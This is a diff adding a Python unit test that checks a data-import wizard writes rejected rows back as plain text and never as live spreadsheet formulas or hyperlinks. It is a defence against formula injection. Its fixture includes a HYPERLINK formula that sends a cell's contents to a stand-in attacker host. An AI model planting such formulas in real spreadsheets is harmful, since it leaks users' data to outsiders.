@@ -537,6 +537,42 @@ class TestImport(LeagueTestCase):
     # ------------------------------------------------------------------
     # round trip
     # ------------------------------------------------------------------
+    def test_rejected_rows_texts_are_not_formulas(self):
+        """Texts of rejected rows starting with = + - @ (a formula in the uploaded file,
+        or "{=...}") come back as texts in the rejected-rows file, never as formulas."""
+        texts = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+1+2', '-3+4',
+                 '@SUM(1+1)', '{=1+1}', 'http://evil.example/']
+        rows = [self.youth_row(texts[0], '123', unit=texts[1]),
+                self.youth_row(texts[2], '456', unit=texts[3]),
+                self.youth_row(texts[4], '789', unit=texts[5])]
+        upload = make_book('youth', rows)
+        self.assertEqual(upload.active['A3'].data_type, 'f')     # a formula in the upload
+        wizard = self.wizard('youth', to_bytes(upload))
+        wizard.action_preview()
+        self.assertEqual(wizard.count_error, 3)
+        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.error_file)))
+        sheet = book.worksheets[0]
+        cells = {}
+        for row in sheet.iter_rows():
+            for cell in row:
+                self.assertNotEqual(cell.data_type, 'f', '%s: %r' % (cell.coordinate, cell.value))
+                self.assertIsNone(cell.hyperlink, cell.coordinate)
+                cells.setdefault(cell.value, cell)
+        for text in texts:
+            self.assertIn(text, cells)
+            self.assertEqual(cells[text].data_type, 's', text)
+        self.assertEqual(sheet['A3'].value, texts[0])
+        # every workbook of the addons is created with these options
+        output = io.BytesIO()
+        raw = fmt.new_workbook(output)
+        raw.add_worksheet().write(0, 0, texts[0])
+        raw.worksheets()[0].write(1, 0, texts[5])
+        raw.close()
+        sheet = openpyxl.load_workbook(output).worksheets[0]
+        self.assertEqual((sheet['A1'].value, sheet['A1'].data_type), (texts[0], 's'))
+        self.assertEqual((sheet['A2'].value, sheet['A2'].data_type), (texts[5], 's'))
+        self.assertIsNone(sheet['A2'].hyperlink)
+
     def test_round_trip(self):
         """Rejected rows download with a reason column, get fixed and import again."""
         rows = [self.youth_row('甲', '13912345681'),
